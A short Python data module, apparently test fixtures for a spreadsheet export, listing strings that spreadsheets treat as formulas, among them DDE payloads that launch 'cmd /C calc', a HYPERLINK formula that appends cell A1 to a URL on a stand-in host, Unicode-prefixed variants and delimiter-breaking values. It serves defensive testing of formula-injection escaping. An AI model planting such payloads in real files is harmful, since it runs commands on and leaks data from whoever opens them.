"""Texts that a spreadsheet runs, follows or turns into something else when a table does not keep them from it."""

FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.invalid/?"&A1;"Cliquez")',
    '=WEBSERVICE("http://x.invalid")',
    '=DDE("cmd";"/C calc";"x")',
    '=IMPORTXML("http://x.invalid";"//a")',
    "=-1+2",
    "+1+1",
    "+33 2 47 00 00 00",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "-moins",
    "@SUM(1;2)",
    "@nom",
    "=A1:A9",
    " =1+1",
    "\u00a0=1+1",
    "\u202f=1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\x00=1+1",
    "\x0b=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u202e=1+1",
    "\u2028=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1;2)",
    "\ue000=1+1",
)
"""Each begins, to the eye of some spreadsheet, with a sign that makes a formula."""

OTHERS = (
    '"=1+1"',
    '"\t=1+1',
    'x";=1+1;"y',
    "x\t=1+1",
    "x\r\n=1+1",
    "{=1+1}",
    "'=1+1",
    "http://x.invalid",
    "internal:Feuil1!A1",
    "mailto:a@x.invalid",
    "&F&P&A",
    "</td><td>=1+1",
)
"""Each becomes one where its place in the file is not minded."""

CODES = ("01004", "2A004", "00012", "1e5", "1-2", "1234567890123456")
"""Codes of figures, which stay the text that they are wherever the file can say so."""
